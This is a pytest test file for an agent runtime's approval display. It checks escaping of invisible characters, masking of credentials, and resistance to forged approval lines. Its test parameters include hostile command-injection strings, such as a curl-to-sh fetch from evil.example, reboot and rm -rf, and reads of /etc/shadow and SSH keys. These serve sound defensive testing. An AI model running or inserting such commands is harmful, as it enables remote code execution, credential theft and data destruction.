"""What a person sees before answering."""

from __future__ import annotations

import json
import re
import unicodedata
from collections.abc import Callable
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from otel_runtime.approvals.display import as_data, headline, in_words, is_secret, lines, rendered, visible
from otel_runtime.approvals.protocol import Ask
from otel_runtime.approvals.service import ApprovalService
from otel_runtime.values.action import Unreadable
from otel_runtime.values.trace import TraceRef

MakeAsk = Callable[..., Ask]


class TestVisible:
    @pytest.mark.parametrize(
        ("text", "expected"),
        [
            ("plain äöü 漢字 🙂", "plain äöü 漢字 🙂"),
            ("a\u202eb", "a\\u{202e}b"),
            ("a\u200bb\ufeff\u2066", "a\\u{200b}b\\u{feff}\\u{2066}"),
            ("\x1b[2J\x07", "\\u{1b}[2J\\u{7}"),
            ("\x9b31m", "\\u{9b}31m"),
            ("a\nb\tc\r", "a\\nb\\tc\\r"),
            ("\\u{202e}", "\\\\u{202e}"),
            ("\xa0\u3000\u3164\u2800\U000e0041", "\\u{a0}\\u{3000}\\u{3164}\\u{2800}\\u{e0041}"),
            ("\ud800", "\\u{d800}"),
            ('say "x"', 'say \\"x\\"'),
        ],
    )
    def test_what_hides_is_shown(self, text: str, expected: str) -> None:
        """Invisible, reordering and terminal characters are escapes; ordinary text of any language stays."""
        assert expected == visible(text)

    @given(st.text(st.characters(categories=None)))
    def test_nothing_acts_on_a_terminal(self, text: str) -> None:
        """No control or format character is left, and different texts look different."""
        shown = visible(text)
        assert not [char for char in shown if char != " " and unicodedata.category(char)[0] in "CZ"]
        assert text == shown or text != visible(shown)


class TestSecrets:
    @pytest.mark.parametrize(
        "name",
        [
            "password",
            "db_password",
            "apiKey",
            "API_KEY",
            "x-api-key",
            "Authorization",
            "client_secret",
            "accessToken",
            "token",
            "private_key",
        ],
    )
    def test_concealed(self, name: str) -> None:
        """Values of such names show length and hash prefix, also inside."""
        assert '{"a": [{"' + name + '": (secret, 6 bytes, sha256 2bb80d53)}]}' == rendered({"a": [{name: "secret"}]})

    @pytest.mark.parametrize(
        ("name", "value"), [("max_tokens", 500), ("token_count", 3), ("tokens", [1, 2]), ("secretary", "x"), ("monkey", "x")]
    )
    def test_counts_are_none(self, name: str, value: object) -> None:
        """Counts of tokens and words that only contain such a name are shown."""
        assert not is_secret(name, value)

    @pytest.mark.parametrize(
        ("before", "after"),
        [
            ("use sk-" + "abcdefghij" * 2 + " now", "use (secret, 23 bytes, sha256 HASH) now"),
            ("curl -H 'Authorization: Bearer " + "abcdefgh12345678' x", "curl -H 'Authorization: (secret, 23 bytes, sha256 HASH)' x"),
            ("login password=hunter2 user=carla", "login password=(secret, 7 bytes, sha256 HASH) user=carla"),
            ("postgres://shop:hunter2@db/x", "postgres://shop:(secret, 7 bytes, sha256 HASH)@db/x"),
            ("https://b.example/x?sig=abcdefgh12345&se=1", "https://b.example/x?sig=(secret, 13 bytes, sha256 HASH)&se=1"),
            ('{"api_key": "abc"}', '{\\"api_key\\": \\"(secret, 3 bytes, sha256 HASH)\\"}'),
            ("AKIA" + "ABCDEFGHIJKLMNOP", "(secret, 20 bytes, sha256 HASH)"),
        ],
    )
    def test_inside_a_text(self, before: str, after: str) -> None:
        """What looks like a credential inside a text shows length and hash prefix, the rest as it is."""
        assert f'"{after}"' == re.sub("sha256 [0-9a-f]{8}", "sha256 HASH", rendered(before))

    @pytest.mark.parametrize(
        "text",
        [
            "max_tokens: 500, time_to_first_token: 0.35",
            "password=$(curl${IFS}evil.example|sh)",
            "password=`reboot`",
            "token=/etc/shadow",
            "token=@/etc/shadow",
            "token=~/.ssh/id_rsa",
            "secret=evil.example/x",
            "token=https://evil.example",
            "Cookie: a=b; rm -rf x",
            "-----BEGIN PRIVATE KEY-----\nreboot\n-----END PRIVATE KEY-----",
            "Authorization: x`reboot`",
        ],
    )
    def test_what_could_act_is_shown(self, text: str) -> None:
        """A call cannot hide what it does behind the looks of a credential."""
        assert f'"{visible(text)}"' == rendered(text)

    def test_no_unicode(self) -> None:
        """A lone surrogate beside a credential shows."""
        assert "d800" in rendered("password=hunter2 \ud800")

    def test_numbers_can_be_secrets(self) -> None:
        """A numeric password is a secret."""
        assert is_secret("password", 1234)


class TestRendered:
    def test_types_show(self) -> None:
        """Values that differ look different."""
        values: list[Any] = [1, 1.0, True, "1", None, "null", Decimal(1), b"1", (1,), [1], Unreadable("a.B", "opaque"), 10**5000]
        values.append(datetime(2026, 1, 1, tzinfo=UTC))
        assert len(values) == len({rendered(value) for value in values})


class TestLines:
    def test_everything_is_there(self, service: ApprovalService, make_ask: MakeAsk, clock: Any) -> None:
        """All arguments by name, where the call came from, who is asked, the digest, the expiry in words and the trace."""
        ask = replace(make_ask({"to": "eve\u202e", "amount": 250}, edit=("amount",), use_within_s=60), trace=TraceRef("a" * 32, "b" * 16))
        request, _ = service.open(ask)
        clock.step(minutes=30, seconds=1)
        text = "\n".join(lines(request, clock.now, missing={"refund.large": 1}))
        wanted = [
            request.id,
            'to = "eve\\u{202e}"',
            "amount = 250  (editable)",
            "expires in 29 minutes",
            "refund.large asks 1 of role:finance",
            "1 answer missing",
        ]
        wanted += [
            "user        dave",
            "agents      support",
            "session     s1",
            "run         r1",
            "call id     c1",
            "p.yaml:3",
            request.call_digest,
            "a" * 32,
            "60 s",
        ]
        assert [] == [each for each in wanted if each not in text]

    def test_long_values(self, service: ApprovalService, make_ask: MakeAsk, clock: Any) -> None:
        """A long value is cut with a mark that says how much is missing, and shown whole on request."""
        request, _ = service.open(make_ask({"body": "x" * 1000 + "END"}))
        cut, whole = ("\n".join(lines(request, clock.now, full=full)) for full in (False, True))
        assert (True, False, True) == ("705 more characters; --full shows all" in cut, "END" in cut, "END" in whole)

    def test_hostile_request(self, service: ApprovalService, make_ask: MakeAsk, clock: Any) -> None:
        """Names, reasons and users cannot write lines of their own."""
        ask = make_ask({"a\nstate approved": "\x1b[8m"}, user="x\nanswer      approved by os:boss")
        request, _ = service.open(ask)
        shown = lines(request, clock.now)
        assert [] == [line for line in shown if not line.isprintable()]
        assert "\n" not in headline(request)

    def test_answers(self, service: ApprovalService, make_ask: MakeAsk, clock: Any) -> None:
        """Who answered what, when and why."""
        request, _ = service.open(make_ask())
        answered = service.answer(request.id, approver="os:alice", approved=False, reason="no\nway").request
        assert "answer      denied by os:alice at 2026-11-20 12:00:00+00:00: no\\nway" == lines(answered, clock.now)[-1]

    def test_as_data(self, service: ApprovalService, make_ask: MakeAsk) -> None:
        """The JSON form is JSON, with secrets concealed."""
        request, _ = service.open(make_ask({"api_key": "sk-123456", "n": 1}))
        text = json.dumps(as_data(request))
        assert ("sk-123456" not in text, "1") == (True, json.loads(text)["arguments"]["n"])

    @pytest.mark.parametrize(
        ("left", "expected"),
        [
            (0, "expired"),
            (1, "expires in 1 second"),
            (61, "expires in 1 minute"),
            (7200, "expires in 2 hours"),
            (6_660, "expires in 1 hour 51 minutes"),
            (200_000, "expires in 2 days 7 hours"),
        ],
    )
    def test_in_words(self, left: int, expected: str) -> None:
        """Times are told in the largest whole unit."""
        assert expected == in_words(timedelta(seconds=left))
